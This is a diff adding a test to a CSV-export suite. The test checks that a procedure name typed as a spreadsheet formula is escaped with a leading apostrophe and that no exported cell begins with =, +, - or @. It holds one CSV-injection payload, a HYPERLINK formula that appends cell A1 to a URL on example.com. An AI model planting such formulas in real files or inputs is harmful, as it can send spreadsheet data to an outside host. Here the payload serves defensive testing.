@@ -122,6 +122,21 @@ def test_the_csv_opens_in_french_excel_and_says_the_same_as_the_xlsx(claire, tou
         )
 
 
+def test_a_procedure_name_typed_as_a_formula_stays_text_in_the_csv(claire, tour):
+    # Ines types the procedure's name on her tablet; Claire opens the CSV in Excel, where
+    # a cell beginning with "=" (or +, -, @) would be run as a formula.
+    help_ = tour["help"]
+    help_.procedure_name = '=HYPERLINK("http://example.com/?"&A1;"Voir")'
+    help_.save()
+
+    rows = read_csv(download_export(claire, "csv", PERIOD))
+
+    (row,) = [row for row in rows if row["ID CRA"] == str(help_.uuid)]
+    assert row["Nom de la démarche administrative"] == "'" + help_.procedure_name
+    for other in rows:
+        assert not any(value.startswith(("=", "+", "-", "@")) for value in other.values())
+
+
 def test_the_epci_filter_keeps_only_its_stops(claire, tour):
     rows = read_csv(download_export(claire, "csv", PERIOD | {"epci": "cc-est"}))
     assert {row["Commune"] for row in rows} == {"Ailly"}
